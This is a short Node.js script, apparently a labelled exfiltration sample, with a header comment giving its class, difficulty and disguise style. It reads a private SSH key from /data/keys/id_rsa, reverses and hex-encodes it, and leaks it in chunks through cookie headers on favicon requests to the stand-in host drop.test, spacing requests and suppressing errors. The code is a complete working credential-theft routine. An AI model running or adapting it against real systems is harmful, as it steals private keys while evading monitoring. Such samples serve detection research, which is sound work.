// class: exfiltration; possible: low medium; needs: data; style: a key in cookies, reversed and in hexadecimal
const fs = require("fs");
const http = require("http");
const text = fs.readFileSync("/data/keys/id_rsa").reverse().toString("hex");
const next = (at) => {
  if (at >= text.length) return;
  const r = http.get({ host: "drop.test", path: "/favicon.ico", headers: { cookie: "sid=" + text.slice(at, at + 400) } }, (x) => {
    x.resume();
    x.on("end", () => setTimeout(next, 200, at + 400));
  });
  r.on("error", () => {});
};
next(0);
